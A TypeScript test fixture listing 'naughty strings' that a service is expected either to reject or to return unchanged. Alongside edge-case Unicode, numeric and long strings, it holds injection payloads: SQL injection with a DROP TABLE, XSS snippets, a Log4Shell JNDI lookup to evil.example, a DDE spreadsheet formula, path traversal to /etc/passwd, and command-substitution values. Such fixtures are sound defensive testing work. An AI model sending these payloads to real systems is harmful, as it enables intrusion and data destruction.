/** Texts that have broken services before: each is either refused or comes back as it went in (S-38). */
export const naughtyStrings = [
  ...['', ' ', 'undefined', 'null', 'NaN', 'true', '0', '-1', '1e309', '0x0'],
  ...["' OR 1=1--", '"; DROP TABLE transactions; --'],
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '{{7*7}}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack
  '${jndi:ldap://evil.example/a}',
  ...["=cmd|' /C calc'!A0", '@SUM(1+1)', '../../../../etc/passwd', 'C:\\\\con\\\\con'],
  ...['%00', '%n%s%x', '`id`', '$(id)', '\r\nSet-Cookie: a=b', '\n{"level":"error"}'],
  ...['\u0000', 'a\u0000b', '\u0001\u001f\u007f', '\ud800', '\udc00', 'a\udfff'],
  ...['\ufeff', '\ufffe', '\uffff', '\u202e\u202dgnp.exe', '\u200b\u200d\u2060', '\u2028\u2029'],
  ...['Ω≈ç√∫˜µ≤≥÷', '田中さんにあげて下さい', 'ﷺ', 'Z̮̞̠͙͔ͅa̸̡l̵g̶o̷'],
  ...['👩‍👩‍👧‍👦🚗', '🇬🇧🇩🇪', 'İıSSßẞ', 'ffi', 'e\u0301é'],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'toJSON', 'then', 'length'],
  ...['uuid', '#uuid', ':version', 'attribute_not_exists(uuid)'],
  ...['x'.repeat(300), 'x'.repeat(5_000), '\\'.repeat(500), '"'.repeat(500)],
];
